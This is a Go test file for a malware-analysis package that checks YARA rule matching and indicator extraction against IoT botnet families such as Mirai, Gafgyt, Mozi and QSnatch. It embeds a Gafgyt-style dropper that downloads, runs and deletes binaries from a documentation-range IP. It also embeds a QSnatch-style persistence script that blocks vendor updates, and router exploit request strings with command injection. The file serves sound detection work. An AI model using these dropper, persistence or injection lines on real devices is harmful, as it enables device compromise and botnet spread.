package analysis

import (
	"context"
	"slices"
	"testing"
)

// Shell samples as the families are documented to use them. Addresses are
// documentation prefixes: inert strings, never contacted.
const gafgytDropper = `#!/bin/bash
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins/mips; chmod +x mips; ./mips; rm -rf mips
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins/mpsl; chmod +x mpsl; ./mpsl; rm -rf mpsl
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins/arm7; chmod +x arm7; ./arm7; rm -rf arm7
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; tftp -g -r sh4 198.51.100.7; chmod 777 sh4; ./sh4; rm -rf sh4
`

const qsnatchScript = `#!/bin/sh
# persistence and update blocking, QSnatch style
for h in update.qnap.com download.qnap.com eu1.qnap.com; do
  grep -q "$h" /etc/hosts || echo "0.0.0.0 $h" >> /etc/hosts
done
cp "$0" /mnt/HDA_ROOT/.config/autorun.sh
echo "*/10 * * * * /share/CACHEDEV1_DATA/.qpkg/.liveupdate/liveupdate.sh" >> /etc/config/crontab
crontab /etc/config/crontab
`

const benignScript = `#!/bin/sh
# rotate logs
for f in /var/log/*.log; do
  mv "$f" "$f.1"
done
echo done
`

func TestFamilies(t *testing.T) {
	haveYara(t)
	amd64 := target{goarch: "amd64", strip: true}
	tests := []struct {
		name     string
		data     func(t *testing.T) []byte
		rule     string
		family   string
		fileType string
	}{
		{"mirai plain", func(t *testing.T) []byte {
			return goSample(t, "mirai-plain", amd64, "/dev/watchdog", "TSource Engine Query", "/bin/busybox MIRAI", "dvrHelper", "/proc/net/tcp")
		}, "Mirai_Plain_Strings", "mirai", TypeELF},
		{"gafgyt bot", func(t *testing.T) []byte {
			return goSample(t, "gafgyt", amd64, "PING", "PONG!", "GETLOCALIP", "SCANNER ON", "SCANNER OFF", "KILLATTK", "LOLNOGTFO", "HOLD", "JUNK", "[%s] Connected")
		}, "Gafgyt_Bot", "gafgyt", TypeELF},
		{"gafgyt dropper", func(*testing.T) []byte { return []byte(gafgytDropper) }, "Gafgyt_Dropper_Script", "gafgyt", TypeShell},
		{"mozi", func(t *testing.T) []byte {
			return goSample(t, "mozi", target{goarch: "mips", env: "GOMIPS=softfloat", strip: true},
				"[ss]bot[/ss]", "[hp]88888888[/hp]", "[dip]192.0.2.1:80[/dip]", "[cpu]mips[/cpu]", "[atk]1[/atk]", "d1:ad2:id20:", "dht.transmissionbt.com", "router.bittorrent.com")
		}, "Mozi_Config_DHT", "mozi", TypeELF},
		{"hajime", func(t *testing.T) []byte {
			return goSample(t, "hajime", target{goarch: "arm", env: "GOARM=5", strip: true},
				"Just a white hat, securing some systems.", "Important messages will be signed like this!", "Hajime Author.", "Stay sharp!")
		}, "Hajime_Worm", "hajime", TypeELF},
		{"tsunami", func(t *testing.T) []byte {
			return goSample(t, "tsunami", amd64, "NICK %s\n", "USER %s localhost localhost :%s\n", "PRIVMSG %s :%s\n", "JOIN %s :%s\n",
				"TSUNAMI <target> <secs>", "PAN <target> <port> <secs>", "UNKNOWN <target> <secs>", "KILLALL")
		}, "Tsunami_Kaiten_IRC", "tsunami", TypeELF},
		{"hide and seek", func(t *testing.T) []byte {
			return goSample(t, "hns", amd64, "GET /cgi-bin/supervisor/CloudSetup.cgi?exefile=wget%20http://192.0.2.9/x HTTP/1.1",
				"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/* HTTP/1.1", "<NewNTPServer1>`cd /tmp`</NewNTPServer1>", "[hide and seek] peer")
		}, "HideNSeek_Exploits", "hidenseek", TypeELF},
		{"vpnfilter", func(t *testing.T) []byte {
			return goSample(t, "vpnfilter", target{goarch: "mips", env: "GOMIPS=softfloat", strip: true}, "/var/vpnfilter", "/var/run/vpnfilterw", "toknowall.com")
		}, "VPNFilter_Stage", "vpnfilter", TypeELF},
		{"qsnatch", func(*testing.T) []byte { return []byte(qsnatchScript) }, "QSnatch_Style_Script", "qsnatch", TypeShell},
		{"benign program", func(t *testing.T) []byte { return goSample(t, "benign", amd64, "hello, world", "/etc/passwd") }, "", "", TypeELF},
		{"benign script", func(*testing.T) []byte { return []byte(benignScript) }, "", "", TypeShell},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, err := Static(context.Background(), tt.data(t), Options{})
			if err != nil {
				t.Fatal(err)
			}
			if r.FileType != tt.fileType {
				t.Errorf("file type %q, want %q", r.FileType, tt.fileType)
			}
			if r.Yara.Error != "" {
				t.Fatalf("yara: %s", r.Yara.Error)
			}
			if tt.rule == "" {
				if len(r.Yara.Matches) != 0 {
					t.Errorf("benign sample matched %v", ruleNames(r))
				}
			} else if !hasRule(r, tt.rule) {
				t.Errorf("matches %v, want %s", ruleNames(r), tt.rule)
			}
			if got := Judge(r).Family; got != tt.family {
				t.Errorf("family %q, want %q (rules %v)", got, tt.family, ruleNames(r))
			}
		})
	}
}

func TestGafgytDropperIOCs(t *testing.T) {
	r, err := Static(context.Background(), []byte(gafgytDropper), Options{YaraPath: "/nonexistent"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Interpreter != "/bin/bash" {
		t.Errorf("interpreter %q", r.Interpreter)
	}
	if len(r.IOCs.URLs) != 3 || !slices.Contains(r.IOCs.URLs, "http://198.51.100.7/bins/mips") {
		t.Errorf("urls %v", r.IOCs.URLs)
	}
	if len(r.IOCs.IPs) != 1 || r.IOCs.IPs[0].IP.String() != "198.51.100.7" {
		t.Errorf("ips %v", r.IOCs.IPs)
	}
	if len(r.IOCs.Commands) < 4 {
		t.Errorf("commands %v", r.IOCs.Commands)
	}
	if len(r.IOCs.Domains) != 0 {
		t.Errorf("domains %v, want none", r.IOCs.Domains)
	}
}
